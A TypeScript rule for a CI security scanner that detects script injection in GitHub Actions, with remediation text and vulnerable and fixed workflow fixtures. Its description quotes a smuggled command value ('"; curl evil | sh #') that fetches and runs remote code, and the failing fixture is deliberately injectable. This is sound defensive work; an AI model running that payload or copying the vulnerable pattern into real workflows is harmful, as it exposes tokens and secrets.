import type {Check} from '../../check'
import type {GitHubActionsDoc} from '../../parsers/github-actions'
import {stepScript, untrustedExpressions} from '../../parsers/github-actions-expressions'

export const templateInjection: Check<GitHubActionsDoc> = {
  id: 'PG-GHA-002',
  platform: 'github-actions',
  severity: 'high',
  title: 'Untrusted input expanded into a script',
  description:
    '`${{ }}` is substituted into the script text before it runs: a PR title or branch name such as `"; curl evil | sh #` becomes shell (or JavaScript) code with the job\'s token and secrets.',
  remediation:
    'Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) and use "$TITLE" in the script.',
  docs: 'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
  aliases: ['template-injection', 'expression'],
  run: doc =>
    doc.jobs.flatMap(job =>
      job.steps.flatMap(step => {
        const script = stepScript(step)
        return script
          ? untrustedExpressions(doc, script).map(m => ({
              line: m.line,
              resource: step.ref,
              message: `${m.match} is expanded into a script`
            }))
          : []
      })
    ),
  fail: {
    fileName: '.github/workflows/triage.yml',
    text: `on:
  issues:
    types: [opened]
permissions:
  issues: write
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "New issue"
          echo "\${{ github.event.issue.title }}" | ./classify.sh
      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
        with:
          script: |
            const branch = '\${{ github.head_ref }}'
            console.log(branch)
`,
    lines: [12, 16]
  },
  pass: {
    fileName: '.github/workflows/triage.yml',
    text: `on:
  issues:
    types: [opened]
permissions:
  issues: write
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - env:
          TITLE: \${{ github.event.issue.title }}
        run: |
          echo "Issue \${{ github.event.issue.number }}"
          echo "$TITLE" | ./classify.sh
`
  }
}
